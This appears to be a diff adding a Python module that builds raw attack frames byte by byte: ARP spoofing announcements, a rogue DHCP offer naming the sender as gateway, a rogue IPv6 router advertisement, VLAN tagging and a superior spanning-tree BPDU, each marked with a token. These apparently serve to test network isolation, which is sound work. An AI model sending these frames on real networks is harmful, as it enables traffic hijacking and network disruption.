@@ -1,0 +1,78 @@
+"""Ethernet frames of the attacks, byte by byte: what a host can send that has root and nothing to lose. Pure."""
+
+from __future__ import annotations
+
+import struct
+from ipaddress import IPv4Address
+
+BROADCAST = b"\xff" * 6
+BRIDGE_GROUP = bytes.fromhex("0180c2000000")
+ALL_NODES_MAC = bytes.fromhex("333300000001")
+_ALL_NODES = bytes.fromhex("ff020000000000000000000000000001")
+_SHORTEST = 60
+_ARP, _IPV4, _IPV6, _VLAN = 0x0806, 0x0800, 0x86DD, 0x8100
+_REQUEST = 1
+_UDP, _ICMPV6 = 17, 58
+
+
+def ethernet(target: bytes, source: bytes, kind: int, payload: bytes) -> bytes:
+    """A frame, padded to the least that Ethernet has."""
+    return (target + source + struct.pack("!H", kind) + payload).ljust(_SHORTEST, b"\0")
+
+
+def gratuitous_arp(target: bytes, source: bytes, address: IPv4Address, token: bytes) -> bytes:
+    """An announcement that `address` is at `source` (RFC 5227, section 1.1), with `token` in the padding."""
+    body = struct.pack("!HHBBH", 1, _IPV4, 6, 4, _REQUEST) + source + address.packed + bytes(6) + address.packed
+    return ethernet(target, source, _ARP, body + token)
+
+
+def udp(
+    target: bytes, source: bytes, addresses: tuple[IPv4Address, IPv4Address], ports: tuple[int, int], payload: bytes
+) -> bytes:
+    """An IPv4 datagram from the first to the second of `addresses` and `ports`, without a UDP checksum."""
+    length = 8 + len(payload)
+    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, _UDP, 0)
+    header += addresses[0].packed + addresses[1].packed
+    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
+    return ethernet(target, source, _IPV4, header + struct.pack("!HHHH", *ports, length, 0) + payload)
+
+
+def dhcp_offer(source: bytes, server: IPv4Address, offered: IPv4Address, token: bytes) -> bytes:
+    """A DHCPOFFER to everybody that makes `server` the gateway (RFC 2131, table 3); `token` is the server's name."""
+    body = struct.pack("!BBBBIHH", 2, 1, 6, 0, 0x7E57BED0, 0, 0x8000)
+    body += bytes(4) + offered.packed + server.packed + bytes(4) + bytes(16)
+    body += token.ljust(64, b"\0") + bytes(128) + bytes.fromhex("63825363")
+    body += b"\x35\x01\x02" + b"\x36\x04" + server.packed + b"\x03\x04" + server.packed + b"\xff"
+    return udp(BROADCAST, source, (server, IPv4Address("255.255.255.255")), (67, 68), body)
+
+
+def router_advertisement(source: bytes, token: bytes) -> bytes:
+    """A router advertisement to all nodes (RFC 4861, section 4.2) with `token` in an experimental option (RFC 4727)."""
+    link_local = bytes.fromhex("fe80000000000000") + bytes([source[0] ^ 2]) + source[1:3] + b"\xff\xfe" + source[3:]
+    option = bytes([253, 3]) + token.ljust(22, b"\0")
+    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + option
+    pseudo = link_local + _ALL_NODES + struct.pack("!II", len(body), _ICMPV6)
+    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
+    header = struct.pack("!IHBB", 6 << 28, len(body), _ICMPV6, 255) + link_local + _ALL_NODES
+    return ethernet(ALL_NODES_MAC, source, _IPV6, header + body)
+
+
+def tagged(frame: bytes, vlan: int) -> bytes:
+    """The frame with an 802.1Q tag."""
+    return frame[:12] + struct.pack("!HH", _VLAN, vlan) + frame[12:]
+
+
+def bridge_frame(source: bytes, token: bytes) -> bytes:
+    """A superior configuration BPDU (IEEE 802.1D-2004, 9.3.1): the sender would be the root of the spanning tree."""
+    bpdu = bytes.fromhex("424203") + bytes(5) + bytes(2) + source + bytes(4) + bytes(2) + source
+    bpdu += struct.pack("!HHHHH", 0x8001, 0, 20 << 8, 2 << 8, 15 << 8) + token
+    return ethernet(BRIDGE_GROUP, source, len(bpdu), bpdu)
+
+
+def checksum(data: bytes) -> int:
+    """The Internet checksum (RFC 1071)."""
+    padded = data + b"\0" * (len(data) % 2)
+    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
